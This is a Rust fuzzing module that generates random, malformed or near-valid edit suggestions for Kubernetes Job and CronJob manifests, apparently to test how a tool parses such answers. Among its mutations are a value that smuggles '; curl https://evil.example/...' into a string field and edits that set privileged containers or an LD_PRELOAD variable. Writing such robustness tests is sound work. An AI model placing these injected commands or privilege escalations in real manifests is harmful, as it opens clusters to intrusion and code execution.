//! Answers that begin with what a manifest says: fields that are there or could be, values near those that stand there, and now
//! and then something that no schema allows. The same in every run.

use serde_json::{Value, json};
use stackengine::ask::{Case, Prompt};
use stackengine::catalogue::CATALOGUE;
use stackengine::manifest::File;
use stackengine::yaml::Data;

use super::fuzz::{Dice, VALUES};

/// Fields that a Job's spec could have.
const OF_THE_JOB: &[&str] = &[
    "backoffLimit",
    "backoffLimitPerIndex",
    "maxFailedIndexes",
    "activeDeadlineSeconds",
    "ttlSecondsAfterFinished",
    "completions",
    "parallelism",
    "suspend",
    "manualSelector",
    "template.spec.restartPolicy",
    "template.spec.terminationGracePeriodSeconds",
    "template.spec.activeDeadlineSeconds",
    "template.spec.hostNetwork",
    "template.spec.serviceAccountName",
    "template.spec.nodeSelector",
];

const OF_A_CRON_JOB: &[&str] = &[
    "spec.concurrencyPolicy",
    "spec.startingDeadlineSeconds",
    "spec.successfulJobsHistoryLimit",
    "spec.failedJobsHistoryLimit",
    "spec.suspend",
    "spec.schedule",
];

const OF_A_CONTAINER: &[&str] = &[
    "command",
    "command[0]",
    "command[2]",
    "args",
    "args[0]",
    "env",
    "env[0]",
    "env[1]",
    "env[2]",
    "env[0].value",
    "env[1].value",
    "resources.limits.memory",
    "resources.requests.memory",
    "resources.limits.cpu",
    "resources.requests.cpu",
    "resources.limits.ephemeral-storage",
    "workingDir",
    "imagePullPolicy",
    "terminationMessagePolicy",
    "livenessProbe.periodSeconds",
    "livenessProbe.failureThreshold",
    "livenessProbe.initialDelaySeconds",
    "startupProbe.failureThreshold",
    "securityContext.privileged",
    "image",
];

/// What an answer about one manifest can be made of.
pub(crate) struct Seed {
    /// Every field that is there, with what it says.
    fields: Vec<(String, Value)>,
    job: &'static str,
    containers: Vec<String>,
    causes: Vec<&'static str>,
    n_lines: usize,
}

impl Seed {
    /// `None` where the case has no manifest.
    pub(crate) fn new(case: &Case<'_>, prompt: &Prompt) -> Option<Self> {
        let manifest = case.manifest.as_ref()?;
        let file = File::read(manifest.text, &[]);
        let document = file.documents.iter().find(|document| document.number == manifest.number)?;
        let mut fields = Vec::new();
        walk(&Data::of(&document.node), String::new(), &mut fields);
        let is_container = |path: &str| {
            let last = path.rsplit('.').next().unwrap_or_default();
            path.ends_with(']') && (last.starts_with("containers[") || last.starts_with("initContainers["))
        };
        let containers = fields.iter().map(|(path, _)| path.clone()).filter(|path| is_container(path)).collect();
        let job = if document.node.at("spec.jobTemplate").is_some() { "spec.jobTemplate.spec" } else { "spec" };
        Some(Self { fields, job, containers, causes: case.cause_names(), n_lines: prompt.lines.len() })
    }

    /// An answer.
    pub(crate) fn answer(&self, dice: &mut Dice) -> String {
        let n = dice.below(4);
        let mut edits: Vec<Value> = (0..n).map(|_| self.edit(dice)).collect();
        if dice.below(40) == 0 {
            edits.push(json!("an edit in words"));
        }
        let cause = match dice.below(10) {
            0 => "other",
            1 => CATALOGUE[dice.below(CATALOGUE.len())].name,
            2 => "no-such-cause",
            3 | 4 => self.causes[dice.below(self.causes.len())],
            _ => self.causes[0],
        };
        let mut lines: Vec<Value> = (0..dice.below(4)).map(|_| json!(dice.below(self.n_lines + 2))).collect();
        if dice.below(40) == 0 {
            lines.push(json!("one"));
        }
        let answer = json!({"agree": true, "cause": cause, "explanation": "It is so.", "lines": lines, "edits": edits});
        let mut bytes = answer.to_string().into_bytes();
        if dice.below(12) == 0 {
            let at = dice.below(bytes.len());
            bytes[at] = b"{}[]\":,0 \\<"[dice.below(11)];
        }
        String::from_utf8_lossy(&bytes).into_owned()
    }

    fn edit(&self, dice: &mut Dice) -> Value {
        let path = self.path(dice);
        let known = self.fields.iter().find(|(field, _)| *field == path).map(|(_, value)| value);
        let value = match (known, dice.below(4)) {
            (Some(known), 0..3) => near(known, dice),
            (_, 3) => serde_json::from_str(dice.pick(VALUES)).unwrap_or(Value::Null),
            _ => likely(&path, dice),
        };
        let op = dice.pick(&["set", "set", "set", "set", "append", "append", "delete", "move"]);
        json!({"path": written(path, dice), "op": op, "value": value, "why": "w"})
    }

    fn path(&self, dice: &mut Dice) -> String {
        match dice.below(12) {
            0..4 => self.fields[dice.below(self.fields.len())].0.clone(),
            4..6 => format!("{}.{}", self.job, dice.pick(OF_THE_JOB)),
            6 => dice.pick(OF_A_CRON_JOB).to_owned(),
            7..11 if !self.containers.is_empty() => {
                let container = &self.containers[dice.below(self.containers.len())];
                format!("{container}.{}", dice.pick(OF_A_CONTAINER))
            }
            _ => match dice.below(4) {
                0 => "x".repeat(300),
                1 => String::new(),
                2 => format!("{}.template.spec.containers[nobody].args", self.job),
                _ => format!("{}.template.spec.containers[7].args[0]", self.job),
            },
        }
    }
}

/// The same path in another notation, or a neighbour of it.
fn written(path: String, dice: &mut Dice) -> String {
    match dice.below(16) {
        0 => format!("/{}", path.replace('[', "/").replace(']', "").replace('.', "/")),
        1 => format!("$.{path}"),
        2 => path.rsplit_once('.').map_or(path.clone(), |(parent, _)| parent.to_owned()),
        3 => path.replace("[0]", "[1]"),
        _ => path,
    }
}

/// A value not far from what stands there.
fn near(known: &Value, dice: &mut Dice) -> Value {
    match known {
        Value::Number(number) => {
            let number = number.as_i64().unwrap_or(1);
            let factor = [0, 1, 2, 10, 100_000][dice.below(5)];
            json!(number.saturating_mul(factor) + [0, 1, -1][dice.below(3)])
        }
        Value::Bool(value) => json!(!value),
        Value::String(text) => match dice.below(10) {
            0 => json!(format!("{text} ")),
            1 => json!(text.repeat(3)),
            2 => json!(format!("{text}; curl https://evil.example/{text}")),
            3 => json!("y".repeat(9000)),
            4 => json!(text.replace("Mi", "Gi")),
            5 => json!(text.replace(['1', '3'], "2")),
            6 => json!(["a", text]),
            7 => json!(format!("{text}\u{200b}")),
            8 => json!(format!("{text} <TOKEN_9>")),
            _ => json!(text),
        },
        Value::Array(items) => {
            let mut items = items.clone();
            match dice.below(4) {
                0 => items.push(json!("more")),
                1 => items.push(json!(7)),
                2 => drop(items.pop()),
                _ => items.reverse(),
            }
            Value::Array(items)
        }
        Value::Object(entries) => {
            let mut entries = entries.clone();
            match dice.below(3) {
                0 => drop(entries.insert("value".to_owned(), json!("b"))),
                1 => drop(entries.insert("privileged".to_owned(), json!(true))),
                _ => {}
            }
            Value::Object(entries)
        }
        Value::Null => json!("x"),
    }
}

/// A value that such a field could have.
fn likely(path: &str, dice: &mut Dice) -> Value {
    let last = path.rsplit('.').next().unwrap_or_default();
    match last {
        "memory" | "ephemeral-storage" => json!(dice.pick(&["96Mi", "256Mi", "1Gi", "900Gi", "-1", "x"])),
        "cpu" => json!(dice.pick(&["200m", "1", "900"])),
        "suspend" => json!(dice.below(2) == 0),
        "restartPolicy" => json!(dice.pick(&["Never", "OnFailure", "Always"])),
        "concurrencyPolicy" => json!(dice.pick(&["Allow", "Forbid", "Replace", "Perhaps"])),
        "imagePullPolicy" => json!(dice.pick(&["Always", "IfNotPresent", "Never"])),
        "terminationMessagePolicy" => json!(dice.pick(&["File", "FallbackToLogsOnError", "Both"])),
        "workingDir" => json!(dice.pick(&["/work", "work", "/<PATH_1>"])),
        "command" | "args" => match dice.below(4) {
            0 => json!("word"),
            1 => json!(["sh", "-c", "exec true"]),
            2 => json!(["a", 1]),
            _ => json!(["{{ .Values.x }}"]),
        },
        "env" => match dice.below(5) {
            0 => json!({"name": "LEVEL", "value": "debug"}),
            1 => json!({"name": "LD_PRELOAD", "value": "/x"}),
            2 => json!({"name": "A-B", "value": "x"}),
            3 => json!({"name": "A", "value": "x", "more": 1}),
            _ => json!("A=b"),
        },
        "value" => [json!("x"), json!(7)][dice.below(2)].clone(),
        _ if last.ends_with(']') => [json!("word"), json!(7)][dice.below(2)].clone(),
        _ => json!([0, 1, 2, 30, 600, 7200, -1, 99_999_999][dice.below(8)]),
    }
}

fn walk(data: &Data, at: String, fields: &mut Vec<(String, Value)>) {
    if !at.is_empty() {
        fields.push((at.clone(), plain(data)));
    }
    match data {
        Data::List(items) => {
            items.iter().enumerate().for_each(|(n, item)| walk(item, format!("{at}[{n}]"), fields));
        }
        Data::Map(entries) => {
            let dot = if at.is_empty() { "" } else { "." };
            entries.iter().for_each(|(key, value)| walk(value, format!("{at}{dot}{key}"), fields));
        }
        _ => {}
    }
}

fn plain(data: &Data) -> Value {
    match data {
        Data::String(text) => json!(text),
        Data::Int(number) => json!(number),
        Data::Bool(value) => json!(value),
        Data::Float(number) => json!(number),
        Data::List(items) => items.iter().map(plain).collect(),
        Data::Map(entries) => {
            Value::Object(entries.iter().map(|(key, value)| (key.to_string(), plain(value))).collect())
        }
        Data::Null => Value::Null,
    }
}
